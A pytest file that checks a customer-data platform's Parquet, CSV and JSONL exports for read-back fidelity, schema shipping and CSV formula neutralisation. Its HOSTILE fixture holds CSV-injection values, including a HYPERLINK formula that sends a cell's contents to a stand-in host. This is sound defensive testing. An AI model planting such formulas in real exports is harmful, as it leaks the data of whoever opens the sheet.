"""Exports other tools read right: each file read back with DuckDB's and pandas' own readers
gives the warehouse's types and values; CSV cells that a spreadsheet would run as formulas
are neutralised; the schema ships beside every export; nothing to export is an error."""

from __future__ import annotations

import csv
import json

import jsonschema
import pytest
import yaml
from typer.testing import CliRunner

from activation.audiences import export_audiences
from activation.export import NothingToExportError, export_golden_records
from activation.export_dialect import text_columns
from activation.export_files import erase_from_exports
from core.warehouse import connect

# Cells a spreadsheet would evaluate (OWASP CSV injection), and data that only looks like it.
HOSTILE = {
    "email": '=hyperlink("http://evil.fr?"&a1)@evil.fr',
    "first_name": "@SUM(1+1)",
    "last_name": "-2+3",
    "city": "\tcmd",
    "address_line": "+1 rue du Faux",
}


def _duckdb_rows(path, fmt, schema=None):
    import duckdb

    reader = {"parquet": "read_parquet", "csv": "read_csv", "jsonl": "read_json"}[fmt]
    options = ""
    if fmt == "csv" and schema:
        # DuckDB's sniffer, like pandas, types "75011" as a number despite the quotes: the
        # schema beside the file names the text columns (docs/exports.md)
        text = ", ".join(f"'{column}': 'VARCHAR'" for column in text_columns(schema))
        options = f", types = {{{text}}}"
    if fmt == "jsonl" and schema:
        # a column null in every row has no type to infer: the schema gives it
        typed = ", ".join(f"'{c}': '{t}'" for c, t in schema["x-duckdb-types"].items())
        options = f", columns = {{{typed}}}"
    with duckdb.connect() as con:
        relation = con.sql(f"select * from {reader}('{path}'{options})")
        return [str(t) for t in relation.types], relation.fetchall()


def _pandas_frame(path, fmt, schema):
    import pandas as pd

    if fmt == "parquet":
        return pd.read_parquet(path)
    # pandas guesses types from characters whatever the quotes say: the schema shipped
    # beside the file names the columns to keep as text (documented in docs/exports.md)
    dtype = {column: "string" for column in text_columns(schema)}
    if fmt == "csv":
        return pd.read_csv(path, dtype=dtype)
    return pd.read_json(path, lines=True, dtype=dtype)


def test_every_format_reads_back_with_the_warehouse_types_and_values(warehouse):
    result = export_golden_records(warehouse, mode="full", formats=["parquet", "csv", "jsonl"])
    manifest = json.loads((result.folder / "manifest.json").read_text())
    schema = json.loads((result.folder / manifest["schema"]).read_text())
    expected_types = list(schema["x-duckdb-types"].values())
    with connect(warehouse) as con:
        expected_rows = con.execute(
            f"select * from read_parquet('{result.folder / 'golden_records.parquet'}')"
        ).fetchall()

    for entry in manifest["files"]:
        path = result.folder / entry["name"]
        types, rows = _duckdb_rows(path, entry["format"], schema)
        assert types == expected_types, entry["name"]
        assert rows == expected_rows, entry["name"]
        frame = _pandas_frame(path, entry["format"], schema)
        assert list(frame.columns) == list(schema["properties"]), entry["name"]
        for column in text_columns(schema):
            assert str(frame[column].dtype) in ("string", "str", "object"), (entry, column)
        assert frame["postcode"].dropna().tolist() == [r[9] for r in expected_rows if r[9]]
        assert frame["phone"].dropna().tolist() == [r[6] for r in expected_rows if r[6]]
        assert str(frame["source_record_count"].dtype) == "int64", entry["name"]


def test_csv_quotes_every_text_cell_and_nothing_else(warehouse):
    result = export_golden_records(warehouse, mode="full", formats=["csv"])
    header, first = (result.folder / "golden_records.csv").read_text().splitlines()[:2]

    assert header.startswith('"customer_id","operation"')
    assert first.startswith('"cust-0001","upsert",,"Zébulon"')
    # phone quoted text, birth date and the count bare
    assert '"+33612345678"' in first and ",1970-" not in first


def test_formula_cells_are_neutralised_in_csv_and_kept_elsewhere(warehouse):
    assignments = ", ".join(f"{column} = ?" for column in HOSTILE)
    with connect(warehouse) as con:
        con.execute(
            f"update marts.golden_records set {assignments} where customer_id = 'cust-0002'",
            list(HOSTILE.values()),
        )
    result = export_golden_records(warehouse, mode="full", formats=["csv", "parquet"])
    with (result.folder / "golden_records.csv").open(newline="", encoding="utf-8") as handle:
        rows = {row["customer_id"]: row for row in csv.DictReader(handle)}
    _, parquet_rows = _duckdb_rows(result.folder / "golden_records.parquet", "parquet")

    hostile = rows["cust-0002"]
    for column, value in HOSTILE.items():
        expected = value.lower() if column == "email" else value  # the export lower-cases it
        assert hostile[column] == "'" + expected, column
    # E.164 phones start with '+' and are numbers, not formulas
    assert rows["cust-0001"]["phone"] == "+33612345678"
    assert HOSTILE["first_name"] in [r[3] for r in parquet_rows]  # Parquet keeps the value

    # erasure still finds a person whose exported cell was neutralised
    with connect(warehouse) as con:
        removed = erase_from_exports(
            con, warehouse.export_dir, {HOSTILE["email"].lower()}, "request-1"
        )
    assert removed == {"golden_records": 2}
    kept = (result.folder / "golden_records.csv").read_text(encoding="utf-8")
    assert "evil.fr" not in kept and '"cust-0001"' in kept


def test_each_audience_ships_its_schema_and_hashes_only_when_asked(warehouse):
    everyone = ["dormant", "vip", "loyal", "new", "at_risk", "prospect"]
    warehouse.exports_config_path.write_text(
        yaml.safe_dump(
            {
                "audiences": {
                    "clear_email": {"channel": "email", "segments": everyone},
                    "ads": {
                        "channel": "email",
                        "segments": everyone,
                        "identifiers": "hashed",
                        "formats": ["csv", "jsonl"],
                    },
                }
            }
        )
    )
    result = export_audiences(warehouse)
    manifest = json.loads((result.folder / "manifest.json").read_text())

    for entry in manifest["files"]:
        schema = json.loads((result.folder / entry["schema"]).read_text())
        types, rows = _duckdb_rows(result.folder / entry["name"], entry["format"], schema)
        assert rows and types == list(schema["x-duckdb-types"].values()), entry["name"]
        columns = list(schema["properties"])
        validator = jsonschema.Draft202012Validator(schema)
        for row in rows:
            assert not list(validator.iter_errors(dict(zip(columns, row, strict=True))))
    clear = json.loads((result.folder / "clear_email.schema.json").read_text())["properties"]
    hashed = json.loads((result.folder / "ads.schema.json").read_text())["properties"]
    assert not any("sha256" in column for column in clear)
    assert list(hashed) == ["email_sha256", "phone_sha256"]
    assert "unsalted" in manifest["audiences"]["ads"]["hashing"]
    assert "hashing" not in manifest["audiences"]["clear_email"]


def test_nothing_to_export_is_an_error_not_an_empty_file(warehouse, monkeypatch):
    from cdp.cli import app

    with connect(warehouse) as con:
        con.execute("delete from marts.golden_records")
    with pytest.raises(NothingToExportError, match="nothing to export"):
        export_golden_records(warehouse, mode="full")
    with pytest.raises(NothingToExportError, match="nothing to export"):
        export_audiences(warehouse)
    assert not warehouse.export_dir.exists() or not any(warehouse.export_dir.rglob("*.csv"))

    monkeypatch.setenv("CDP_DATA_DIR", str(warehouse.data_dir))
    monkeypatch.setenv("CDP_EXPORTS_CONFIG_PATH", str(warehouse.exports_config_path))
    for command in (["export"], ["export", "audiences"]):
        outcome = CliRunner().invoke(app, command)
        assert outcome.exit_code == 1, outcome.output
        assert "nothing to export" in outcome.output
